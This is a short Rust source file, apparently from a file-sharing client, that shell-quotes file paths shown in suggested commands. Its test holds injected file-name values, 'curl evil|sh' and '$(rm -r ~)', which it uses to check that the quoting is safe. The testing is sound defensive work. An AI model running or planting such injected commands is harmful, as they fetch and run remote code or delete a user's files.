//! Paths in commands that a person is told to type.

use std::path::Path;

use warren_proto::content::path::printable;

/// A path as a shell reads it, whatever name somebody else has given it; no path when it cannot be shown.
pub(crate) fn typed(path: &Path) -> String {
    let text = path.to_str().filter(|text| printable(text) == **text);
    let quoted = text.and_then(|text| shlex::try_quote(text).ok());
    quoted.map_or("PATH".to_owned(), |text| text.into_owned())
}

/// What to do about files that were shared where they lie, and are others now.
pub(crate) fn register_anew(path: &Path) -> String {
    format!(
        "Put back what was there and verify it again; or share what is there now, which takes its place: client \
         register {} IDX",
        typed(path)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_in_commands_are_one_word_whatever_is_in_them() {
        for path in ["/a/film.mkv", "/a/it's; curl evil|sh", "/a/$(rm -r ~) `x`"] {
            let words = shlex::split(&typed(Path::new(path)));
            assert_eq!(words, Some(vec![path.to_owned()]));
        }
        assert_eq!(typed(Path::new("/a/film.mkv")), "/a/film.mkv");
        assert_eq!(typed(Path::new("/a/\u{1b}[2J")), "PATH");
    }
}
